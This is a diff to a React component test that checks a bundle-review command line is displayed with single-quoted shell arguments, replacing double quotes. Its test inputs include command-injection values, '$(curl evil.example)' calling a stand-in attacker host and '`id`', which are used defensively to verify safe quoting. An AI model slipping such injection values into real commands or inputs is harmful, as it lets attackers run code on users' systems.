@@ -20,10 +20,10 @@ const review = (args: string[]): BundleReview => ({
 afterEach(cleanup);
 
 describe('BundleReviewFacts', () => {
-  it('shows each argument a shell would split or expand quoted, as the import and install reviews do', () => {
+  it('shows each argument a shell would split or expand in single quotes, as the import and install reviews do', () => {
     render(<BundleReviewFacts review={review(['server/index.js', '$(curl evil.example)', 'a b', '`id`', 'C:\\x', ''])} />);
     const line = document.querySelector('.import-command-line')?.textContent;
-    expect(line).toBe('node server/index.js "$(curl evil.example)" "a b" "`id`" "C:\\\\x" ""');
+    expect(line).toBe("node server/index.js '$(curl evil.example)' 'a b' '`id`' 'C:\\x' ''");
     expect(screen.getByText('/usr/bin/node')).toBeTruthy();
   });
 });
